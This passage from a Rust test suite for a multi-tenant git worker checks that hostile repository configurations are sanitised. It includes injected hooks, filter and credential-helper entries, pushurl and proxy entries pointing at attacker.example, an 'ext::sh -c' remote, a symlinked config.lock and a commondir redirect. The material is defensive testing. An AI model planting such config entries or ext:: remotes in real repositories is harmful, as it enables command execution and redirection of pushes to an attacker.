        assert!(
            matches!(after, Err(GitCommandError::Stopped { .. })),
            "{after:?}"
        );
        assert!(!ours.join(".git/refs/heads/after").exists());
    }

    /// A push the upstream refuses and one that never reaches it are different errors: the
    /// first is not worth repeating, the second is.
    #[tokio::test]
    async fn a_refused_push_is_told_apart_from_an_unreachable_upstream() {
        let dir = tempfile::tempdir().unwrap();
        let up = bare(dir.path());
        let remote = up.to_str().unwrap();
        let (ours, theirs) = (dir.path().join("ours"), dir.path().join("theirs"));
        GitProgram::clone_into(remote, &ours).await.unwrap();
        GitProgram::clone_into(remote, &theirs).await.unwrap();
        for (checkout, file) in [(&theirs, "theirs.txt"), (&ours, "ours.txt")] {
            std::fs::write(checkout.join(file), "x\n").unwrap();
            git(checkout, &["add", "-A"]);
            git(checkout, &["commit", "-qm", file]);
        }
        let policy = GitPolicy::for_remote(Some(remote));
        GitProgram::new(&theirs, &policy)
            .push("main")
            .await
            .unwrap();

        match GitProgram::new(&ours, &policy).push("main").await {
            Err(GitCommandError::PushRefused { refused, .. }) => {
                assert_eq!(refused.len(), 1, "{refused:?}");
                assert_eq!(refused[0].target, "refs/heads/main");
                assert!(refused[0].reason.contains("rejected"), "{refused:?}");
            }
            other => panic!("a non-fast-forward push must be refused, got {other:?}"),
        }

        std::fs::remove_dir_all(&up).unwrap();
        match GitProgram::new(&ours, &policy).push("main").await {
            Err(GitCommandError::Failed { .. }) => {}
            other => panic!("an upstream that is gone is a failure, not a refusal: {other:?}"),
        }
    }

    const CLONED: &str = "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n\tlogallrefupdates = true\n[remote \"origin\"]\n\turl = /srv/git/c/p.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch \"main\"]\n\tremote = origin\n\tmerge = refs/heads/main\n";

    #[test]
    fn a_fresh_clones_configuration_is_kept_as_it_is() {
        assert_eq!(
            safe_config(CLONED.as_bytes(), Some("/srv/git/c/p.git")),
            CLONED
        );
    }

    #[test]
    fn a_tenants_configuration_keeps_only_what_the_worker_needs() {
        let hostile = format!(
            "{CLONED}\
             [include]\n\tpath = /etc/other-tenant/config\n\
             [includeIf \"gitdir:/\"]\n\tpath = ../../evil\n\
             [core]\n\thooksPath = .githooks\n\tfsmonitor = ./evil\n\tsshCommand = ./evil\n\
             \tgitProxy = ./evil\n\tpager = ./evil\n\teditor = ./evil\n\tworktree = /other/tenant\n\
             \tfilemode = false\n\
             [filter \"lfs2\"]\n\tclean = ./evil\n\tsmudge = ./evil\n\tprocess = ./evil\n\
             [merge \"ours2\"]\n\tdriver = ./evil %O %A %B\n\
             [diff]\n\texternal = ./evil\n[diff \"bin\"]\n\ttextconv = ./evil\n\
             [credential]\n\thelper = !./evil\n\
             [remote \"origin\"]\n\turl = /other/tenant.git\n\tpushurl = https://attacker.example/x.git\n\
             \tuploadpack = ./evil\n\treceivepack = ./evil\n\
             [url \"https://attacker.example/\"]\n\tinsteadOf = /srv/git/\n\
             [protocol \"ext\"]\n\tallow = always\n\
             [http]\n\textraHeader = X: y\n\tproxy = http://attacker.example\n\
             [uploadpack]\n\tpackObjectsHook = ./evil\n\
             [extensions]\n\tworktreeConfig = true\n\
             [branch \"thread-t\"]\n\tremote = origin\n\tmerge = refs/heads/thread-t\n\
             [branch \"thread-x\"]\n\tremote = /other/tenant.git\n\tmerge = refs/heads/thread-x\n"
        );
        let safe = safe_config(hostile.as_bytes(), Some("/srv/git/c/p.git"));
        assert_eq!(
            safe,
            "[core]\n\trepositoryformatversion = 0\n\tfilemode = false\n\tbare = false\n\
             \tlogallrefupdates = true\n[remote \"origin\"]\n\turl = /srv/git/c/p.git\n\
             \tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch \"main\"]\n\tremote = origin\n\
             \tmerge = refs/heads/main\n[branch \"thread-t\"]\n\tremote = origin\n\
             \tmerge = refs/heads/thread-t\n"
        );
        assert!(!safe.contains("evil") && !safe.contains("attacker") && !safe.contains("other"));
    }

    #[test]
    fn what_does_not_parse_keeps_nothing_of_its_own() {
        let safe = safe_config(b"[core\n\x00garbage = \"", Some("https://h/r.git"));
        assert_eq!(
            safe,
            "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n\
             \tlogallrefupdates = true\n[remote \"origin\"]\n\turl = https://h/r.git\n\
             \tfetch = +refs/heads/*:refs/remotes/origin/*\n"
        );
        // Without a configured remote, the operator's `origin` URL stays (and nothing else).
        let kept = safe_config(CLONED.as_bytes(), None);
        assert_eq!(kept, CLONED);
    }

    #[test]
    fn values_are_written_as_git_reads_them_back() {
        let dir = tempfile::tempdir().unwrap();
        let url = "/srv/odd path/#x;y\\\"z\".git";
        let text = safe_config(b"", Some(url));
        std::fs::write(dir.path().join("config"), &text).unwrap();
        let read = git(
            dir.path(),
            &["config", "--file", "config", "--get", "remote.origin.url"],
        );
        assert_eq!(read, url);
    }

    #[tokio::test]
    async fn a_checkouts_configuration_is_rewritten_before_git_runs() {
        let dir = tempfile::tempdir().unwrap();
        let up = bare(dir.path());
        let remote = up.display().to_string();
        let ws = dir.path().join("ws");
        GitProgram::clone_into(&remote, &ws).await.unwrap();
        let policy = GitPolicy::for_remote(Some(&remote));
        let config = ws.join(".git/config");
        let before = std::fs::read_to_string(&config).unwrap();
        // A tenant points origin elsewhere and adds a filter driver.
        let marker = dir.path().join("ran");
        std::fs::write(
            &config,
            format!(
                "{before}[remote \"origin\"]\n\turl = /elsewhere.git\n[filter \"x\"]\n\tsmudge = \"touch {}\"\n",
                marker.display()
            ),
        )
        .unwrap();
        GitProgram::new(&ws, &policy).fetch().await.unwrap();
        assert_eq!(std::fs::read_to_string(&config).unwrap(), before);
        assert!(!marker.exists());
        // A planted `.git/config.lock` (a symlink to a file of the worker's) is not followed.
        let victim = dir.path().join("victim");
        std::fs::write(&victim, "keep").unwrap();
        std::os::unix::fs::symlink(&victim, ws.join(".git/config.lock")).unwrap();
        std::fs::write(&config, format!("{before}[core]\n\tpager = x\n")).unwrap();
        GitProgram::new(&ws, &policy)
            .secure_checkout()
            .await
            .unwrap();
        assert_eq!(std::fs::read_to_string(&config).unwrap(), before);
        assert_eq!(std::fs::read_to_string(&victim).unwrap(), "keep");
        // A `.git` that sends git elsewhere is refused.
        std::fs::write(ws.join(".git/commondir"), "../../other/.git").unwrap();
        let refused = GitProgram::new(&ws, &policy).fetch().await;
        assert!(
            matches!(refused, Err(GitCommandError::Unsafe { .. })),
            "{refused:?}"
        );
    }

    #[tokio::test]
    async fn ext_remotes_are_refused() {
        let dir = tempfile::tempdir().unwrap();
        let marker = dir.path().join("ran");
        let remote = format!("ext::sh -c touch% {}", marker.display());
        let refused = GitProgram::ls_remote(&remote).await;
        let text = refused.unwrap_err().to_string();
        assert!(text.contains("transport 'ext' not allowed"), "{text}");
        assert!(!marker.exists());
        // Also when git's environment would allow it.
        let up = bare(dir.path());
        let ws = dir.path().join("ws");
        GitProgram::clone_into(&up.display().to_string(), &ws)
            .await
            .unwrap();
        let git = GitProgram::new(&ws, &GitPolicy::for_remote(Some(up.to_str().unwrap())));
        let refused = git.run(&["ls-remote", &remote], LOCAL_TIMEOUT).await;
        assert!(refused.is_err());
        assert!(!marker.exists());
    }

    #[tokio::test]
    async fn the_file_transport_is_open_only_for_a_local_remote() {
        let dir = tempfile::tempdir().unwrap();
        let up = bare(dir.path());
        let local = up.display().to_string();
        // Configured as a local path (and as a file:// URL): clone and fetch work.
        let ws = dir.path().join("ws");
        GitProgram::clone_into(&local, &ws).await.unwrap();
        GitProgram::new(&ws, &GitPolicy::for_remote(Some(&local)))
            .fetch()
            .await
            .unwrap();
        let url = format!("file://{local}");
        GitProgram::clone_into(&url, &dir.path().join("ws2"))
            .await
            .unwrap();
        // A workspace whose remote is https cannot reach a repository on this machine.
        let https = GitPolicy::for_remote(Some("https://127.0.0.1:9/c/p.git"));
        let git = GitProgram::new(&ws, &https);
        for target in [local.as_str(), url.as_str()] {
            let refused = git
                .run(&["ls-remote", "--", target], LOCAL_TIMEOUT)
                .await
                .unwrap_err()
                .to_string();
            assert!(
                refused.contains("transport 'file' not allowed"),
                "{refused}"
            );
        }
    }

    #[tokio::test]
    async fn errors_carry_no_token() {
        let token = "ghp_SECRETSECRETSECRETSECRETSECRETSECRET12";
        let remote = format!("https://x-access-token:{token}@127.0.0.1:9/c/p.git");
        let dir = tempfile::tempdir().unwrap();
        let failed = GitProgram::clone_into(&remote, &dir.path().join("ws"))
            .await
            .unwrap_err();
        let text = format!("{failed} {failed:?}");
        assert!(!text.contains(token), "{text}");
        assert!(text.contains("https://***@127.0.0.1:9/c/p.git"), "{text}");
    }
}
